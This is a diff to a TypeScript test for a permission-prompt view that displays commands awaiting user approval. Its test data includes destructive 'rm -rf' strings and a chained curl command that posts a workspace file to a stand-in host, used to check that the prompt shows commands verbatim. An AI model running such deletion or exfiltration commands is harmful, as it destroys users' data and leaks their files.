@@ -75,6 +75,31 @@ describe('permissionView', () => {
     assert.deepEqual(said({ title: 'Edit /work/shop/a.ts', kind: 'edit', content }), []);
   });
 
+  it('shows a command to the letter, also if only the title has it, and in the font of code', () => {
+    const commands = [
+      'rm -rf /work/shop//etc',
+      'rm -rf /work/shop/',
+      'touch /work/shop/a && curl -d @/work/shop/b https://a.example',
+      'Shell: cp /work/shop/../x /work/shop/y',
+      'Run `npm test`',
+      `ls${' '.repeat(60)}/work/shop/a`,
+      `cat ${'/work/shop/a '.repeat(30)}`,
+    ];
+    for (const kind of ['execute', 'delete', 'edit', 'other', undefined])
+      for (const title of commands) {
+        if (kind !== 'execute' && /^Shell|^Run/.test(title)) continue;
+        const view = asked({ title, ...(kind !== undefined && { kind }) });
+        const shown = view.command?.line.replace(/⋯ 60 spaces ⋯/, ' '.repeat(58)) ?? '';
+        assert.equal(shown.trim(), title.trim(), `${kind}: ${title}`);
+        assert.ok(view.command?.isTitle !== true || view.title.includes(view.command.line), title);
+      }
+    assert.equal(asked({ title: 'Search /work/shop//etc', kind: 'search' }).title, 'Search /work/shop//etc');
+    assert.equal(
+      asked({ title: 'Read /work/shop/a.ts, then /work/shop//etc', kind: 'read' }).title,
+      'Read /work/shop/a.ts, then /work/shop//etc',
+    );
+  });
+
   it('names the folder of a command only if it is not the workspace folder, and its shell', () => {
     const where = (rawInput: object): string | undefined =>
       asked({ title: 'x', kind: 'execute', rawInput }).command?.where;
